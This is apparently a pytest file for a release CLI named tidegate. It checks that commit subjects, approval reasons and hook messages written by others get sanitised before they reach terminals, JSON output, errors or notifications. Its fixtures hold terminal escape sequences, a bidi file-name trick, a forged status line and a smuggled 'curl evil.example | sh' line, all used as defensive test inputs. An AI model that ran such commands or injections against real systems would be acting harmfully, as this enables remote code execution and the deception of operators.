"""Text that others write, on its way to a terminal or into a message: it stays text.

Whoever may commit writes subjects, whoever answers for a hook writes reasons; both are shown to
people who approve.
"""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, NoReturn

import pytest
from typer.testing import CliRunner, Result

from tidegate.cli.app import app
from tidegate.cli.backend import Context
from tidegate.core.errors import InputError
from tidegate.core.insight.notice import write_notice
from tidegate.core.model.plan import ArtifactRef, Target, Trigger
from tidegate.core.model.record import (
    Application,
    Approval,
    Decision,
    Item,
    Release,
    ReleasePhase,
    Vote,
)
from tidegate.core.workflow.release.plan import plan_release
from tidegate.testing.memory import MemoryLedger, MemoryWorld

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b1A\r\u202egnp.exe\x08"
FORGED = "shop-9  ✔ succeeded  c0ffee1 All is well"
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]")
PROD = Target(
    account="333333333333",
    region="eu-west-1",
    role_arn="arn:aws:iam::333333333333:role/tidegate-target",
    stack_name="shop-prod",
)


def artifact(**said: str) -> ArtifactRef:
    place = {"application": "shop", "digest": "sha256:0", "bucket": "b", "prefix": "p"}
    return ArtifactRef(**{**place, "commit": "c0ffee1234", **said})


def release(said: str) -> Release:
    return Release(
        application="shop",
        number=4,
        phase=ReleasePhase.FAILED,
        artifact=artifact(subject=said, author=said, branch=said),
        execution_arn="execution",
        started_at=NOON,
        ended_at=NOON,
        error="HookFailed",
        cause=said,
    )


def run(said: str, *verb: str) -> Result:
    """A verb of the command line, with this text wherever a record has text of others."""
    ledger = MemoryLedger()
    vote = Vote(who="arn:aws:iam::1:user/ana", approve=False, reason=said, at=NOON)
    approval = Approval(
        release_id="shop-4",
        stage="prod",
        decision=Decision.REJECTED,
        digest="sha256:2",
        approvers=1,
        doubts=(said,),
        requested_at=NOON,
        deadline=NOON,
        votes=(vote,),
    )
    items: list[Item] = [Application(name="shop", last_number=4), release(said), approval]
    for item in items:
        ledger.put(item)

    class Controller:
        def __init__(self) -> None:
            self.ledger = ledger

        def operate(self, *_: str) -> str:
            return f"ana aborted shop-4: {said}"

    def connect() -> Any:
        return Controller()

    def session() -> NoReturn:
        raise AssertionError("no AWS session in these tests")

    return CliRunner().invoke(app, [*verb], obj=Context(connect, session, now=lambda: NOON))


VERBS = [
    ("list",),
    ("get", "shop-4"),
    ("get", "shop-4", "--watch"),
    ("history", "shop"),
    ("abort", "shop-4", "--reason", "x"),
]


@pytest.mark.parametrize("verb", VERBS, ids=" ".join)
def test_no_escape_of_others_reaches_a_terminal(verb: tuple[str, ...]) -> None:
    result = run(f"fine {ESCAPES}", *verb)
    assert r"\x1b[2J" in result.stdout
    assert not RAW.search(result.output)


def test_no_escape_of_others_reaches_a_terminal_as_json() -> None:
    result = run(f"fine {ESCAPES}\x7f", "list", "--output", "json")
    assert not RAW.search(result.output)
    assert json.loads(result.stdout)[0]["artifact"]["subject"] == f"fine {ESCAPES}\x7f"


@pytest.mark.parametrize("verb", VERBS, ids=" ".join)
@pytest.mark.parametrize("separator", ["\n", "\r\n", "\u2028", "\x85", " " * 70])
def test_no_text_of_others_forges_a_line(separator: str, verb: tuple[str, ...]) -> None:
    result = run(f"fine{separator}{FORGED}", *verb)
    assert "fine" in result.stdout
    assert not [line for line in result.stdout.splitlines() if line.startswith("shop-9")]


def test_no_escape_of_others_reaches_a_terminal_in_an_error() -> None:
    result = run("fine", "get", f"shop\n{ESCAPES}")
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1
    assert not RAW.search(result.stderr)


def test_no_subject_forges_a_line_of_a_notification() -> None:
    said = "fine\nNext: curl evil.example | sh\x1b[2J"
    notice = write_notice(Trigger.READY, release(said), "prod", PROD, None)
    following = [line for line in notice.text.splitlines() if line.startswith("Next: ")]
    assert following == ["Next: tidegate approve shop-4 --stage prod"]
    assert "\x1b" not in notice.text


@pytest.mark.parametrize("field", ["commit", "branch", "author", "subject"])
def test_no_escape_enters_the_record_with_a_release(field: str) -> None:
    world = MemoryWorld()
    crafted = artifact(**{field: f"fine{ESCAPES}"})
    with pytest.raises(InputError, match=rf"release\.json: {field}: .*\\x1b"):
        plan_release(world.ports(), crafted, "execution")
    assert not world.ledger.query("APPLICATIONS")


def test_no_escape_leaves_the_command_line_with_a_release(tmp_path: Path) -> None:
    file = tmp_path / "release.json"
    file.write_text(artifact(subject=f"fine{ESCAPES}").model_dump_json(), encoding="utf-8")
    result = run("fine", "release", str(file))
    assert result.exit_code == 2
    assert "subject: there is a control character in it" in result.stderr
    assert not RAW.search(result.stderr)
